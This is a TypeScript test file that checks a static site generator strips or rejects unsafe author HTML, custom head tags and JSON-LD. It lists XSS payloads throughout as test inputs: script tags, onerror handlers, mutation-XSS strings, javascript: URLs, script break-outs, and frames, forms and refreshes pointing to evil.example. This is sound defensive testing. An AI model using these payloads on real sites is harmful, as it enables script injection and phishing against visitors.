// Faults of raw text: author HTML, custom head tags and structured data. Nothing of it may ever run.
import { expect } from 'vitest';
import type { TestSite } from '../support/site.js';
import { type Fault, fault, PAGE, pageWith, SITE, textPage, changed } from './fault.js';
import { SITE_JSON } from '../support/site.js';

/** The page holds the browser script, at most one structured-data script, and nothing else that could run. */
function runsNothing(site: TestSite): void {
  const document = site.page('x/index.html');
  const scripts = [...document.querySelectorAll('script')].map((one) => one.type);
  expect(scripts).toEqual(['application/ld+json', 'module']);
  expect(
    document.querySelectorAll(
      'iframe, object, embed, form, svg, base, [onclick], [onload], [onerror], [style], main style, body script',
    ).length,
  ).toBe(0);
}

/** `<script>` and `the attribute onclick`, as they begin in the text. */
const marked = (says: string) => (says.startsWith('<') ? says.slice(0, -1) : says.split(' ').at(-1)!);

const html = (name: string, text: string, says: string, file = PAGE): Fault => ({
  ...fault(`author HTML: ${name}`, textPage(text), [
    'html-removed',
    file,
    // What goes is marked itself; in capitals it is looked for in vain.
    text.includes(marked(says)) ? marked(says) : '"<p>a</p><ScRiPt',
    says,
  ]),
  proves: runsNothing,
});

const AUTHOR_HTML: readonly Fault[] = [
  html('a script', '<p>a</p><script>alert(1)</script>', '<script>'),
  html('a script in mixed case with an attribute', '<p>a</p><ScRiPt src=//evil.example></ScRiPt>', '<script>'),
  html('an event handler', '<p onclick="alert(1)">a</p>', 'the attribute onclick'),
  html('an event handler without quotes', '<a href=/ onmouseover=alert(1)>a</a>', 'the attribute onmouseover'),
  html('a picture with a handler', '<p>a</p><img src=x onerror=alert(1)>', '<img>'),
  html('a frame', '<p>a</p><iframe src="https://evil.example"></iframe>', '<iframe>'),
  html('an SVG with a script', '<p>a</p><svg><script>alert(1)</script></svg>', '<svg>'),
  html('an SVG with a handler', '<p>a</p><svg onload=alert(1)>', '<svg>'),
  html('styles', '<style>p{display:none}</style><p>a</p>', '<style>'),
  html('a form', '<p>a</p><form action="https://evil.example"><input name="card"></form>', '<form>'),
  html('another base URL', '<base href="https://evil.example/"><p>a</p>', '<base>'),
  html('a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>a</p>', '<meta>'),
  html(
    'formulas that change how the rest is read',
    '<p>a</p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math>',
  ),
  html(
    'a hidden second document',
    '<p>a</p><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<noscript>',
  ),
  html('an unknown element', '<p>a</p><x-casino onclick=alert(1)>b</x-casino>', '<x-casino>'),
  fault(
    'author HTML: a link without a text',
    textPage('<p>a <a href="/">b</a> <a href="/?c"><strong>&nbsp;</strong></a></p>'),
    ['link-textless', PAGE, '/?c', 'A link in the HTML has no text, so nobody can follow it.'],
  ),
  fault('control: a link that is never closed', textPage('<p>a <a href="/">b</p> <p>c</p>')),
  {
    ...fault(
      'SPEC-3.19 a script goes, the list around it stays',
      textPage('<ul><li>uno</li><li>due<script>alert(1)</script></li></ul>'),
      ['html-removed', PAGE, '<script'],
    ),
    proves: (site) => expect(site.page('x/index.html').querySelectorAll('main li').length).toBe(2),
  },
  fault('author HTML: 300 elements inside one another', textPage(`${'<ul><li>'.repeat(150)}a`), [
    'html-too-deep',
    PAGE,
    '"<ul>',
    'nested too deeply',
  ]),
  fault('author HTML: 60,000 elements inside one another', textPage('<b>'.repeat(60_000)), [
    'html-too-deep',
    PAGE,
    '"<b>',
  ]),
  fault('author HTML: more than 200,000 characters', textPage('a'.repeat(200_001)), [
    'value-range',
    PAGE,
    '"aaa',
    'more than 200000 characters. Divide it among several blocks.',
  ]),
  {
    ...fault('control: text that only looks like markup', textPage('5 < 6 & 7 > 6; a<b')),
    proves: (site) =>
      expect(site.page('x/index.html').querySelector('main')?.textContent).toContain('5 < 6 & 7 > 6; a'),
  },
  {
    ...fault('control: harmless HTML', textPage('<p>a <strong>b</strong> <a href="/">c</a></p><ol><li>d</li></ol>')),
    proves: runsNothing,
  },
];

const tags = (...custom_tags: readonly string[]) => pageWith({ meta: { meta_settings: { custom_tags } } });
const tag = (name: string, text: string, says: string): Fault =>
  fault(`custom tag: ${name}`, tags(text), ['custom-tag-invalid', PAGE, JSON.stringify(text).slice(0, 20), says]);

const CUSTOM_TAGS: readonly Fault[] = [
  tag('two elements', '<meta name="a" content="b"><meta name="c" content="d">', 'exactly one element'),
  tag('text', 'google-site-verification=abc', 'exactly one element'),
  tag('nothing', '', 'exactly one element'),
  tag('a comment beside the element', '<!-- a --><meta name="a" content="b">', 'exactly one element'),
  tag('http-equiv', '<meta http-equiv="refresh" content="0;url=https://evil.example">', '"http-equiv" is not allowed'),
  tag('a referrer policy', '<meta name="referrer" content="unsafe-url">', 'written by the generator'),
  tag('what hides the page from one engine', '<meta name="googlebot" content="noindex">', '"robots": "noindex"'),
  tag('a meta without content', '<meta name="a">', 'needs "content"'),
  tag('a meta without a name', '<meta content="a">', 'needs "name" or "property"'),
  tag('a script', '<script>alert(1)</script>', 'application/ld+json'),
  tag(
    'a script from elsewhere',
    '<script type="application/ld+json" src="https://evil.example/x.js"></script>',
    'no other attribute',
  ),
  tag('a handler', '<link rel="icon" href="/a.svg" onload="alert(1)">', '"onload" is not allowed'),
  tag('a handler on a meta', '<meta name="a" content="b" onclick="alert(1)">', '"onclick" is not allowed'),
  tag('a style sheet', '<link rel="stylesheet" href="https://evil.example/x.css">', 'the rel "stylesheet"'),
  tag('a known rel beside an unknown one', '<link rel="icon modulepreload" href="/a.js">', 'the rel "modulepreload"'),
  tag('a link without rel', '<link href="/a">', 'needs "rel"'),
  tag('a link with http', '<link rel="me" href="http://a.example/">', 'https or begins with one slash'),
  tag(
    'a link to another host behind two slashes',
    '<link rel="icon" href="//evil.example/a">',
    'https or begins with one slash',
  ),
  tag(
    'a link with a forbidden protocol',
    '<link rel="icon" href=" javascript:alert(1)">',
    'https or begins with one slash',
  ),
  tag('a style element', '<style>body{display:none}</style>', '<style> is not allowed'),
  tag('another title', '<title>a</title>', '<title> is not allowed'),
  tag('JSON-LD that is no JSON', '<script type="application/ld+json">{"@type": </script>', 'not JSON'),
  tag('JSON-LD that is a number', '<script type="application/ld+json">5</script>', 'an object or a list of objects'),
  tag(
    'JSON-LD with an entry that is no object',
    '<script type="application/ld+json">[{"@type": "Thing"}, null]</script>',
    'an object or a list of objects',
  ),
  tag(
    'JSON-LD with a graph that contains no objects',
    '<script type="application/ld+json">{"@graph": [null]}</script>',
    'an object or a list of objects',
  ),
  tag(
    'JSON-LD nested without end',
    `<script type="application/ld+json">{"a": ${'['.repeat(9000)}${']'.repeat(9000)}}</script>`,
    'nested more than 64 levels deep',
  ),
  fault(
    'structured data of another context',
    pageWith({ meta: { scripts_settings: [{ '@context': 'https://evil.example/', '@type': 'Thing' }] } }),
    ['json-ld-context', PAGE, '"https://evil', 'not "https://schema.org"'],
  ),
  fault(
    'a canonical of another site',
    pageWith({ meta: { meta_settings: { canonical_url: 'https://evil.example/x' } } }),
    ['canonical-foreign', PAGE, '"https://evil', 'https://evil.example'],
  ),
  fault(
    'two bad tags are two problems',
    tags('<b>', '<i>'),
    ['custom-tag-invalid', PAGE, '"<b>"'],
    ['custom-tag-invalid', PAGE, '"<i>"'],
  ),
  fault(
    'a rel of links_settings that would load code',
    pageWith({ meta: { links_settings: { modulepreload: '/a.js' } } }),
    ['custom-tag-invalid', PAGE, '"/a.js"', 'not a rel that is allowed in the head'],
  ),
  fault('the same in site.json, once', { [SITE]: changed(SITE_JSON, 'meta.links_settings.stylesheet', '/a.css') }, [
    'custom-tag-invalid',
    SITE,
    '"/a.css"',
  ]),
  {
    ...fault(
      'control: the three kinds of tag',
      tags(
        '<meta name="verify" content="a&quot;><script>alert(1)</script>">',
        '<link rel="preconnect" href="https://a.example" crossorigin>',
        '<script type="application/ld+json">{"@type": "Thing", "name": "</scr\\u0069pt>"}</script>',
      ),
    ),
    proves(site) {
      runsNothing(site);
      expect(site.page('x/index.html').querySelector('meta[name=verify]')?.getAttribute('content')).toBe(
        'a"><script>alert(1)</script>',
      );
      expect(site.page('x/index.html').querySelector('link[rel=preconnect]')?.hasAttribute('crossorigin')).toBe(true);
    },
  },
];

const data = (scripts_settings: unknown) => pageWith({ meta: { scripts_settings } });
const BREAK_OUTS = [
  '</script><script>alert(1)</script>',
  '</SCRIPT >',
  '<!--<script>',
  ']]>',
  '\u2028\u2029',
  '&lt;/script&gt;',
  '\\u003c/script>',
  '\'"`${alert(1)}',
];

const STRUCTURED_DATA: readonly Fault[] = [
  fault('structured data without @type', data([{ name: 'a' }]), ['json-ld-invalid', PAGE, '{', 'has no "@type"']),
  fault(
    'structured data without @type in an object of objects',
    data({ good: { '@type': 'Thing' }, bad: { name: 'a' } }),
    ['json-ld-invalid', PAGE, '{\n        "name"'],
  ),
  fault('structured data with a graph that contains no objects', data([{ '@graph': [null, 'a'] }]), [
    'json-ld-invalid',
    PAGE,
    '{',
  ]),
  fault('structured data that is a text', data(['<script>']), ['value-type', PAGE, '"<script>"']),
  {
    ...fault(
      'promise 19, control: no text leaves the script element',
      data(BREAK_OUTS.map((name) => ({ '@type': 'Thing', name, [name]: name }))),
    ),
    proves(site) {
      runsNothing(site);
      const graph = JSON.parse(
        site.page('x/index.html').querySelector('script[type="application/ld+json"]')!.textContent!,
      )['@graph'] as { name?: string }[];
      expect(graph.slice(-BREAK_OUTS.length).map(({ name }) => name)).toEqual(BREAK_OUTS);
      expect(site.out('x/index.html').match(/<\/script/gi)?.length).toBe(2);
    },
  },
];

export const HTML_FAULTS: readonly Fault[] = AUTHOR_HTML;
export const HEAD_FAULTS: readonly Fault[] = [...CUSTOM_TAGS, ...STRUCTURED_DATA];
